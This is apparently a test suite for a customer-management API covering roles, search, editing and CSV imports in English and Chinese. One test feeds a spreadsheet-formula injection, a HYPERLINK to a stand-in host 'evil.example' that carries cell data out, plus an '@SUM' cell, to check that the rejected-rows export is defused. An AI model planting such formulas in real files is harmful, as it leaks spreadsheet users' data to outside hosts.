// The customers API: search, create, edit, roles, the customer's answers, and CSV imports end to end.
import { randomUUID } from 'node:crypto';
import iconv from 'iconv-lite';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CustomerImport } from '../server/customers/imports.ts';
import { importLimitBytes } from '../server/customers/rules.ts';
import type { Customer } from '../server/customers/service.ts';
import { responses } from '../server/db/schema.ts';
import type { SurveyDefinition } from '../surveys/definition.ts';
import { signedInAs, startTestApp, type StaffClient, type TestApp } from './support/app.ts';

let test: TestApp;
let manager: StaffClient;

beforeEach(async () => {
  test = await startTestApp();
  manager = await signedInAs(test, 'manager');
});
afterEach(() => test.close());

async function create(input: Record<string, unknown>, client = manager): Promise<Customer> {
  const response = await client.request('POST', '/api/customers', input);
  expect(response.status, JSON.stringify(await response.clone().json())).toBe(201);
  return (await response.json()).customer;
}

async function customerCount() {
  const result = await test.db.$client.execute('SELECT count(*) AS n FROM customers');
  return Number(result.rows[0]!.n);
}

async function list(query: string, client = manager) {
  const response = await client.request('GET', `/api/customers${query}`);
  expect(response.status).toBe(200);
  return (await response.json()) as { customers: Customer[]; total: number; page: number; pageSize: number };
}

/** Creates an import and sends the file, as the staff app does; answers the upload's response. */
async function importFile(bytes: Uint8Array<ArrayBuffer>, settings: Record<string, unknown> = {}, client = manager) {
  const created = await client.request('POST', '/api/customer-imports', { fileName: 'customers.csv', sizeBytes: bytes.byteLength, ...settings });
  expect(created.status, JSON.stringify(await created.clone().json())).toBe(201);
  const { import: waiting } = (await created.json()) as { import: CustomerImport };
  expect(waiting.status).toBe('waiting');
  const uploaded = await upload(waiting.id, bytes, client);
  return { id: waiting.id, response: uploaded, body: (await uploaded.json()) as { import: CustomerImport; error?: string } };
}

function upload(id: string, bytes: Uint8Array<ArrayBuffer>, client = manager, headers: Record<string, string> = {}) {
  return test.app.request(`/api/customer-imports/${id}/file`, {
    method: 'PUT',
    headers: { cookie: client.cookie, 'x-csrf-token': client.csrfToken, 'content-type': 'text/csv', ...headers },
    body: bytes,
  });
}

async function rejections(id: string) {
  const response = await manager.request('GET', `/api/customer-imports/${id}/rejections`);
  expect(response.status).toBe(200);
  return (await response.json()).rejections as { rowNumber: number; reason: { en: string; 'zh-CN': string }; cells: string[] }[];
}

const utf8 = (text: string) => new TextEncoder().encode(text) as Uint8Array<ArrayBuffer>;

describe('who may see and change customers', () => {
  it('lets support read but not change, and keeps interviewers and strangers out', async () => {
    const customer = await create({ name: 'Li Wei', email: 'li@example.com' });
    const support = await signedInAs(test, 'support');
    expect((await list('', support)).total).toBe(1);
    expect((await support.request('GET', `/api/customers/${customer.id}`)).status).toBe(200);
    expect((await support.request('POST', '/api/customers', { name: 'X', email: 'x@example.com' })).status).toBe(403);
    expect((await support.request('PUT', `/api/customers/${customer.id}`, { name: 'X' })).status).toBe(403);
    expect((await support.request('GET', `/api/customers/${customer.id}/responses`)).status).toBe(403);
    expect((await support.request('POST', '/api/customer-imports', { fileName: 'a.csv', sizeBytes: 1 })).status).toBe(403);

    const interviewer = await signedInAs(test, 'interviewer');
    expect((await interviewer.request('GET', '/api/customers')).status).toBe(403);
    expect((await interviewer.request('GET', `/api/customers/${customer.id}`)).status).toBe(403);
    expect((await test.app.request('/api/customers')).status).toBe(401);

    const admin = await signedInAs(test, 'admin');
    expect((await admin.request('PUT', `/api/customers/${customer.id}`, { name: 'Li Wei', email: 'wei@example.com' })).status).toBe(200);
  });

  it('refuses a write without the CSRF token', async () => {
    const response = await manager.request('POST', '/api/customers', { name: 'A', email: 'a@example.com' }, { 'x-csrf-token': 'wrong' });
    expect(response.status).toBe(403);
    expect(await customerCount()).toBe(0);
  });
});

describe('creating and editing a customer', () => {
  it('creates an enterprise with its contact person, consents and flags', async () => {
    const customer = await create({
      externalId: 'E-1',
      kind: 'enterprise',
      name: '星辰科技有限公司',
      contactName: '王经理',
      email: 'Ops@Stars.CN',
      phone: '+86 21 6888 8888',
      region: '上海',
      segment: '制造业',
      tier: 'vip',
      consents: { email: ['survey', 'follow_up'], phone: ['survey'] },
      doNotCall: true,
    });
    expect(customer).toMatchObject({
      externalId: 'E-1',
      kind: 'enterprise',
      contactName: '王经理',
      email: 'ops@stars.cn',
      tier: 'vip',
      locale: 'zh-CN',
      consents: { email: ['survey', 'follow_up'], phone: ['survey'] },
      doNotContact: false,
      doNotCall: true,
    });
    const read = await (await manager.request('GET', `/api/customers/${customer.id}`)).json();
    expect(read.customer).toEqual(customer);
  });

  it('answers bad input with a message at each field, in the language asked for', async () => {
    const response = await manager.request('POST', '/api/customers', { name: ' ', email: 'bob@', kind: 'enterprise' }, { 'x-locale': 'zh-CN' });
    expect(response.status).toBe(400);
    const body = await response.json();
    expect(Object.keys(body.fields).sort()).toEqual(['contactName', 'email', 'name']);
    expect(body.fields.email).toMatch(/电子邮件/);
    expect(body.error).toMatch(/^请更正/);
    expect(await customerCount()).toBe(0);
  });

  it('refuses a second customer with the same email or external id', async () => {
    await create({ name: 'A', email: 'a@example.com', externalId: 'A-1' });
    const sameEmail = await manager.request('POST', '/api/customers', { name: 'B', email: 'A@example.com' });
    expect(sameEmail.status).toBe(409);
    expect(Object.keys((await sameEmail.json()).fields)).toEqual(['email']);
    const sameId = await manager.request('POST', '/api/customers', { name: 'C', externalId: 'A-1' });
    expect(sameId.status).toBe(409);
    expect(Object.keys((await sameId.json()).fields)).toEqual(['externalId']);
    expect(await customerCount()).toBe(1);
  });

  it('edits a customer and keeps it from taking another one’s email', async () => {
    const first = await create({ name: 'First', email: 'first@example.com' });
    const second = await create({ name: 'Second', email: 'second@example.com' });
    const edited = await manager.request('PUT', `/api/customers/${second.id}`, { name: 'Second, renamed', email: 'second@example.com', tier: 'important', doNotContact: true });
    expect(edited.status).toBe(200);
    expect((await edited.json()).customer).toMatchObject({ name: 'Second, renamed', tier: 'important', doNotContact: true });
    const clash = await manager.request('PUT', `/api/customers/${second.id}`, { name: 'Second', email: first.email });
    expect(clash.status).toBe(409);
    expect((await manager.request('PUT', `/api/customers/${randomUUID()}`, { name: 'Nobody' })).status).toBe(404);
    expect((await manager.request('GET', `/api/customers/${randomUUID()}`)).status).toBe(404);
  });
});

describe('finding customers', () => {
  beforeEach(async () => {
    await create({ name: '张三', email: 'zhang@example.com', phone: '+86 138-0013-8000', region: '上海', segment: 'retail', tier: 'vip' });
    await create({ name: 'Li Si', email: 'lisi@example.com', externalId: 'CRM-77', region: '北京', segment: 'retail' });
    await create({ name: '王五工厂', email: 'wang@factory.cn', kind: 'enterprise', contactName: '王五', region: '上海', segment: 'industry', tier: 'important' });
  });

  it('searches names, emails, phone numbers typed any way, and external ids', async () => {
    expect((await list('?q=张')).customers.map((c) => c.name)).toEqual(['张三']);
    expect((await list('?q=FACTORY')).customers.map((c) => c.name)).toEqual(['王五工厂']);
    expect((await list(`?q=${encodeURIComponent('138 0013')}`)).customers.map((c) => c.name)).toEqual(['张三']);
    expect((await list('?q=crm-77')).customers.map((c) => c.name)).toEqual(['Li Si']);
    expect((await list('?q=%25')).total).toBe(0);
  });

  it('filters by segment, region, tier and kind, together', async () => {
    expect((await list(`?region=${encodeURIComponent('上海')}`)).total).toBe(2);
    expect((await list(`?region=${encodeURIComponent('上海')}&segment=retail`)).customers.map((c) => c.name)).toEqual(['张三']);
    expect((await list('?tier=important')).customers.map((c) => c.name)).toEqual(['王五工厂']);
    expect((await list('?kind=enterprise&tier=vip')).total).toBe(0);
  });

  it('pages through results', async () => {
    const first = await list('?pageSize=2');
    const second = await list('?pageSize=2&page=2');
    expect(first).toMatchObject({ total: 3, page: 1, pageSize: 2 });
    expect(first.customers).toHaveLength(2);
    expect(second.customers).toHaveLength(1);
    expect(new Set([...first.customers, ...second.customers].map((c) => c.id)).size).toBe(3);
  });

  it('refuses a bad query with a reason', async () => {
    const response = await manager.request('GET', '/api/customers?pageSize=1000&tier=gold');
    expect(response.status).toBe(400);
    expect(Object.keys((await response.json()).fields).sort()).toEqual(['pageSize', 'tier']);
  });

  it('lists the segments and regions in use for the filters', async () => {
    const facets = await (await manager.request('GET', '/api/customers/facets')).json();
    expect(facets).toEqual({ segments: ['industry', 'retail'], regions: ['上海', '北京'].sort() });
  });
});

describe('what a customer has answered', () => {
  it('lists their responses newest first with the survey title and channel, a page at a time', async () => {
    const definition: SurveyDefinition = {
      kind: 'satisfaction',
      title: { 'zh-CN': '门店体验', en: 'Store visit' },
      questions: [{ id: 'csat', type: 'csat', required: true, title: { 'zh-CN': '满意吗？', en: 'Satisfied?' } }],
    };
    const created = (await (await manager.request('POST', '/api/surveys', { definition })).json()).survey;
    const survey = (await (await manager.request('POST', `/api/surveys/${created.id}/publish`)).json()).survey;
    const customer = await create({ name: 'Answerer', email: 'answers@example.com' });
    const other = await create({ name: 'Other', email: 'other@example.com' });
    const base = { surveyId: survey.id, versionId: survey.versions[0].id, locale: 'zh-CN' as const, answers: { csat: 4 } };
    await test.db.insert(responses).values([
      { ...base, id: 'r-old', channel: 'phone', submittedAt: Date.parse('2025-01-01T08:00:00Z'), customerId: customer.id },
      { ...base, id: 'r-new', channel: 'mail', submittedAt: Date.parse('2025-03-01T08:00:00Z'), customerId: customer.id },
      { ...base, id: 'r-other', channel: 'web', submittedAt: Date.parse('2025-02-01T08:00:00Z'), customerId: other.id },
    ]);
    const page = await (await manager.request('GET', `/api/customers/${customer.id}/responses?limit=1`)).json();
    expect(page.total).toBe(2);
    expect(page.responses).toEqual([
      expect.objectContaining({ id: 'r-new', channel: 'mail', surveyTitle: definition.title, submittedAt: '2025-03-01T08:00:00.000Z', version: 1 }),
    ]);
    const next = await (await manager.request('GET', `/api/customers/${customer.id}/responses?limit=1&before=${page.nextBefore}`)).json();
    expect(next.responses.map((r: { id: string }) => r.id)).toEqual(['r-old']);
    expect(next.nextBefore).toBeNull();
    expect((await manager.request('GET', `/api/customers/${randomUUID()}/responses`)).status).toBe(404);
    // A page asked for wrongly is refused with what to send, not answered with some other page.
    for (const query of ['limit=0', 'limit=500', 'limit=ten', 'before=yesterday']) {
      const refused = await manager.request('GET', `/api/customers/${customer.id}/responses?${query}`);
      expect(refused.status, query).toBe(400);
      expect(JSON.stringify(await refused.json()), query).toMatch(/"(limit|before)"/);
    }
  });
});

describe('importing customers from CSV', () => {
  const englishFile = [
    'external_id,name,email,phone,region,tier,consent_email,do_not_call,notes',
    'C-1,Alice Chen,alice@example.com,+86 138 0000 0001,Shanghai,vip,survey;follow_up,no,first',
    'C-2,Bob,bob@,+86 138 0000 0002,Beijing,ordinary,,no,bad email',
    'C-3,"Carol, Ltd",carol@example.com,,Shenzhen,gold,,yes,bad tier',
    '',
    'C-4,Dan,dan@example.com,,Shanghai,important,all,1,"notes with ""quotes"""',
  ].join('\r\n');

  it('imports the good rows of a UTF-8 comma file and lists every rejected row with why', async () => {
    const { response, body } = await importFile(utf8(englishFile));
    expect(response.status).toBe(200);
    expect(body.import).toMatchObject({
      status: 'done',
      encoding: 'utf-8',
      delimiter: ',',
      processedBytes: utf8(englishFile).byteLength,
      rows: { read: 4, created: 2, updated: 0, rejected: 2, blank: 1 },
      mapping: ['external_id', 'name', 'email', 'phone', 'region', 'tier', 'consent_email', 'do_not_call', null],
    });
    const rejected = await rejections(body.import.id);
    expect(rejected.map((row) => [row.rowNumber, row.reason.en])).toEqual([
      [3, 'row 3: "email" is not an email address (got "bob@")'],
      [4, 'row 4: "tier" must be vip, important or ordinary (贵宾, 重要, 普通) (got "gold")'],
    ]);
    expect(rejected[1]!.cells).toEqual(['C-3', 'Carol, Ltd', 'carol@example.com', '', 'Shenzhen', 'gold', '', 'yes', 'bad tier']);
    expect(rejected[0]!.reason['zh-CN']).toMatch(/^第 3 行：/);

    const alice = (await list('?q=alice')).customers[0]!;
    expect(alice).toMatchObject({
      externalId: 'C-1',
      phone: '+86 138 0000 0001',
      region: 'Shanghai',
      tier: 'vip',
      consents: { email: ['survey', 'follow_up'] },
      doNotCall: false,
      locale: 'zh-CN',
    });
    expect((await list('?q=dan')).customers[0]).toMatchObject({ tier: 'important', consents: { email: ['survey', 'follow_up', 'marketing'] }, doNotCall: true });
    expect(await customerCount()).toBe(2);
  });

  it('lists the rejected rows a page at a time, each page after the last row number of the one before', async () => {
    const { body } = await importFile(utf8(englishFile));
    const page = async (query: string) => {
      const response = await manager.request('GET', `/api/customer-imports/${body.import.id}/rejections${query}`);
      expect(response.status).toBe(200);
      const { rejections, nextAfter } = await response.json();
      return { rows: (rejections as { rowNumber: number }[]).map((row) => row.rowNumber), nextAfter };
    };
    expect(await page('?limit=1')).toEqual({ rows: [3], nextAfter: 3 });
    expect(await page('?limit=1&after=3')).toEqual({ rows: [4], nextAfter: null });
    expect(await page('?limit=2')).toEqual({ rows: [3, 4], nextAfter: null });
    for (const path of ['rejections', 'consent-kept']) {
      const refused = await manager.request('GET', `/api/customer-imports/${body.import.id}/${path}?limit=lots`);
      expect(refused.status).toBe(400);
      expect((await refused.json()).error).toMatch(/whole number from 1 to 500/);
    }
  });

  it('imports a GB18030 tab-separated file with Chinese headers, detecting both', async () => {
    const file = [
      '客户编号\t姓名\t邮箱\t电话\t地区\t客户等级\t类型\t联系人',
      'G-1\t张三\tzhangsan@example.cn\t13800138000\t上海\t贵宾\t个人\t',
      'G-2\t星辰科技有限公司\tstars@example.cn\t021-68888888\t北京\t重要\t企业\t王经理',
      'G-3\t李四\tlisi@example.cn\t\t广州\t钻石\t个人\t',
      'G-4\t某某集团\tgroup@example.cn\t\t深圳\t普通\t企业\t',
    ].join('\n');
    const bytes = new Uint8Array(iconv.encode(file, 'gb18030'));
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toThrow();
    const { body } = await importFile(bytes);
    expect(body.import).toMatchObject({
      status: 'done',
      encoding: 'gb18030',
      delimiter: '\t',
      header: ['客户编号', '姓名', '邮箱', '电话', '地区', '客户等级', '类型', '联系人'],
      rows: { read: 4, created: 2, rejected: 2 },
    });
    const rejected = await rejections(body.import.id);
    expect(rejected.map((row) => row.reason['zh-CN'])).toEqual([
      '第 4 行：“客户等级”必须是 贵宾、重要 或 普通（vip、important、ordinary）（收到 “钻石”）',
      '第 5 行：“联系人”为空；企业客户需要联系人',
    ]);
    const [zhang] = (await list(`?q=${encodeURIComponent('张三')}`)).customers;
    expect(zhang).toMatchObject({ externalId: 'G-1', email: 'zhangsan@example.cn', region: '上海', tier: 'vip', kind: 'individual' });
    const [stars] = (await list('?q=stars')).customers;
    expect(stars).toMatchObject({ name: '星辰科技有限公司', kind: 'enterprise', contactName: '王经理', tier: 'important' });
  });

  it('updates customers on a re-import instead of adding them twice, by external id or else by email', async () => {
    await importFile(utf8(englishFile));
    const byEmailOnly = await create({ name: 'Erin', email: 'erin@example.com', tier: 'ordinary', region: 'Hangzhou' });
    const again = [
      'external_id,name,email,tier,region',
      'C-1,Alice Chen-Wang,alice@example.com,important,',
      ',,erin@example.com,vip,',
      'C-4,,dan.new@example.com,,Suzhou',
      'C-9,Copycat,alice@example.com,,',
      'C-5,,new-no-name@example.com,,',
      'C-6,Fay,fay@example.com,,',
      'C-6,Fay Again,,vip,',
    ].join('\n');
    const { body } = await importFile(utf8(again));
    expect(body.import.rows).toEqual({ read: 7, created: 1, updated: 4, rejected: 2, blank: 0, consentKept: 0 });
    expect(await customerCount()).toBe(4);

    const alice = (await list('?q=C-1')).customers[0]!;
    // The new values are taken; an empty cell leaves the region as it was.
    expect(alice).toMatchObject({ name: 'Alice Chen-Wang', tier: 'important', region: 'Shanghai', phone: '+86 138 0000 0001' });
    const erin = (await (await manager.request('GET', `/api/customers/${byEmailOnly.id}`)).json()).customer;
    expect(erin).toMatchObject({ name: 'Erin', tier: 'vip', region: 'Hangzhou' });
    expect((await list('?q=C-4')).customers[0]).toMatchObject({ name: 'Dan', email: 'dan.new@example.com', region: 'Suzhou' });
    expect((await list('?q=C-6')).customers[0]).toMatchObject({ name: 'Fay Again', email: 'fay@example.com', tier: 'vip' });

    const rejected = await rejections(body.import.id);
    expect(rejected.map((row) => row.reason.en)).toEqual([
      'row 5: "email" already belongs to another customer (C-1) (got "alice@example.com")',
      'row 6: "name" is empty; a new customer needs a name',
    ]);
  });

  it('gives a rejected-rows report safe to open in a spreadsheet', async () => {
    const file = [
      'external_id,name,email,phone',
      'X-1,=HYPERLINK("http://evil.example/?"&A1;"click"),not-an-email,+86 138 0000 0003',
      'X-2,@SUM(1+1),also-bad,-1',
    ].join('\n');
    const { body } = await importFile(utf8(file));
    expect(body.import.rows.rejected).toBe(2);
    const response = await manager.request('GET', `/api/customer-imports/${body.import.id}/rejections.csv?lang=zh-CN`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="rejected-rows-/);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = new TextDecoder().decode(bytes).split('\r\n');
    expect(lines[0]).toBe('行号,原因,external_id,name,email,phone');
    expect(lines[1]).toMatch(/^2,第 2 行：“email”不是有效的电子邮件地址（收到 “not-an-email”）,X-1,"'=HYPERLINK\(""http:\/\/evil.example\/\?""&A1;""click""\)",not-an-email,'\+86 138 0000 0003$/);
    expect(lines[2]).toMatch(/^3,.*,X-2,'@SUM\(1\+1\),also-bad,'-1$/);
    expect(lines.slice(3)).toEqual(['']);
    // No cell of the report starts a formula.
    for (const line of lines.slice(1, 3)) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+\-@]/);
    }
  });

  it('takes a file larger than the 1 MB limit of other requests, in many batches', async () => {
    const rows = Array.from({ length: 15_000 }, (_, i) => `B-${i},Customer number ${i} with a longer name,c${i}@example.com,Region ${i % 7},retail`);
    const bytes = utf8(['external_id,name,email,region,segment', ...rows].join('\n'));
    expect(bytes.byteLength).toBeGreaterThan(1024 * 1024);
    const { response, body } = await importFile(bytes);
    expect(response.status).toBe(200);
    expect(body.import).toMatchObject({ status: 'done', processedBytes: bytes.byteLength, rows: { read: 15_000, created: 15_000, rejected: 0 } });
    expect(await customerCount()).toBe(15_000);

    const tooBig = await manager.request('POST', '/api/customers', { name: 'x'.repeat(1024 * 1024 + 10) });
    expect(tooBig.status).toBe(413);
  });

  it('refuses a file over the import limit with a clear 413', async () => {
    const declared = await manager.request('POST', '/api/customer-imports', { fileName: 'huge.csv', sizeBytes: importLimitBytes + 1 });
    expect(declared.status).toBe(413);
    expect((await declared.json()).error).toMatch(/larger than 64 MB/);

    const created = await (await manager.request('POST', '/api/customer-imports', { fileName: 'huge.csv', sizeBytes: 10 })).json();
    const lying = await upload(created.import.id, utf8('email\na@b.cn\n'), manager, { 'content-length': String(importLimitBytes + 1) });
    expect(lying.status).toBe(413);
    expect((await lying.json()).code).toBe('too_large');
  });

  it('takes one file per import', async () => {
    const { id } = await importFile(utf8('email,name\na@example.com,A\n'));
    const again = await upload(id, utf8('email,name\nb@example.com,B\n'));
    expect(again.status).toBe(409);
    expect(await customerCount()).toBe(1);
    expect((await upload(randomUUID(), utf8('email\n'))).status).toBe(404);
  });

  it('fails the import with a reason when the mapping cannot find customers again', async () => {
    const { id, response, body } = await importFile(utf8('name,region\nA,Shanghai\n'));
    expect(response.status).toBe(400);
    expect(body.error).toMatch(/external id or the email/);
    const polled = (await (await manager.request('GET', `/api/customer-imports/${id}`)).json()).import as CustomerImport;
    expect(polled).toMatchObject({ status: 'failed', header: ['name', 'region'], mapping: ['name', 'region'] });
    expect(polled.error?.['zh-CN']).toMatch(/外部编号或电子邮件/);
    expect(await customerCount()).toBe(0);
  });

  it('uses the mapping the person chose, over the one the headers suggest', async () => {
    const file = 'id,full name,contact\nM-1,Mei,mei@example.com\n';
    const { body } = await importFile(utf8(file), { mapping: ['external_id', 'name', 'email'] });
    expect(body.import.rows.created).toBe(1);
    expect((await list('?q=M-1')).customers[0]).toMatchObject({ name: 'Mei', email: 'mei@example.com', contactName: null });
    const refused = await manager.request('POST', '/api/customer-imports', { fileName: 'a.csv', sizeBytes: 1, mapping: ['shoe_size'] });
    expect(refused.status).toBe(400);
  });

  it('stops with a reason when the file is not in the encoding chosen, and says so when polled', async () => {
    const bytes = new Uint8Array(iconv.encode('email,name\nzhang@example.cn,张三\n', 'gb18030'));
    const { id, response, body } = await importFile(bytes, { encoding: 'utf-8' });
    expect(response.status).toBe(400);
    expect(body.error).toMatch(/not valid UTF-8/);
    const polled = (await (await manager.request('GET', `/api/customer-imports/${id}`)).json()).import as CustomerImport;
    expect(polled.status).toBe('failed');
    expect(polled.error?.en).toMatch(/CSV UTF-8/);
    expect(await customerCount()).toBe(0);
  });

  it('reports a quote that never closes instead of dropping the rest silently', async () => {
    const { body } = await importFile(utf8('email,name\na@example.com,A\nb@example.com,"B\nc@example.com,C\n'));
    expect(body.import.rows).toMatchObject({ read: 2, created: 1, rejected: 1 });
    expect((await rejections(body.import.id))[0]!.reason.en).toMatch(/^row 3: a quoted cell is never closed/);
  });

  it('skips blank lines before the header, keeping row numbers as a spreadsheet shows them', async () => {
    const { body } = await importFile(utf8('\n\nemail,name\nfine@example.com,Fine\nbad,Bad\n'));
    expect(body.import).toMatchObject({ header: ['email', 'name'], rows: { read: 2, created: 1, rejected: 1 } });
    expect((await rejections(body.import.id))[0]!.rowNumber).toBe(5);
  });

  it('shows an import that stopped moving as failed, so nobody waits on it forever', async () => {
    const created = (await (await manager.request('POST', '/api/customer-imports', { fileName: 'a.csv', sizeBytes: 10 })).json()).import;
    await test.db.$client.execute({
      sql: "UPDATE customer_imports SET status = 'running', updated_at = ? WHERE id = ?",
      args: [Date.now() - 10 * 60_000, created.id],
    });
    const polled = (await (await manager.request('GET', `/api/customer-imports/${created.id}`)).json()).import;
    expect(polled.status).toBe('failed');
    expect(polled.error.en).toMatch(/stopped part way/);
  });
});

describe('a request with many invalid fields', () => {
  it('lists the first 20 field messages and counts the rest', async () => {
    const mapping = Array.from({ length: 1000 }, () => 'not a field');
    const response = await manager.request('POST', '/api/customer-imports', { fileName: 'customers.csv', sizeBytes: 10, mapping });
    expect(response.status).toBe(400);
    const body = await response.json();
    expect(Object.keys(body.fields)).toHaveLength(20);
    expect(body.moreProblems).toBe(980);
    expect(body.error).toContain('980 more');
  });
});
